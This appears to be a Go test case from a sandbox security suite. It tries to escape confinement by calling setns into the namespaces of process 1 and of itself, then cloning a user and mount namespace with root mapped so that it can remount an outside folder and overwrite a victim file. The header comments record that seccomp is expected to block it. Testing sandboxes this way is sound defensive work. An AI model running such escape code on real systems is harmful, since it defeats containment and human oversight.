// attack: Go opens every /proc/1/ns and /proc/self/ns file and setns()es into it, then starts a child with CLONE_NEWUSER|CLONE_NEWNS and uid 0 mapped that remounts the outside folder and writes the victim
// category: privilege
// effect: victim unchanged; no proof file
// via: seccomp denies setns, unshare and clone with namespace flags
// control: yes
package main

import (
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"syscall"
)

func main() {
	runtime.LockOSThread()
	for _, ns := range []string{"mnt", "user", "pid", "net", "ipc", "uts", "cgroup", "time"} {
		for _, p := range []string{"/proc/1/ns/" + ns, "/proc/self/ns/" + ns} {
			f, err := os.Open(p)
			if err != nil {
				continue
			}
			_, _, e := syscall.RawSyscall(308, f.Fd(), 0, 0) // setns
			fmt.Println("setns", p, e)
			if e == 0 {
				os.WriteFile("PWNED-setns-"+ns, nil, 0o644)
			}
			f.Close()
		}
	}
	c := exec.Command("/bin/sh", "-c", `mount -o remount,rw "$RT_OUTSIDE"; echo pwned > "$RT_VICTIM"; touch "$RT_WS/PWNED-newuser"`)
	c.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	fmt.Println("clone newuser:", c.Run())
}
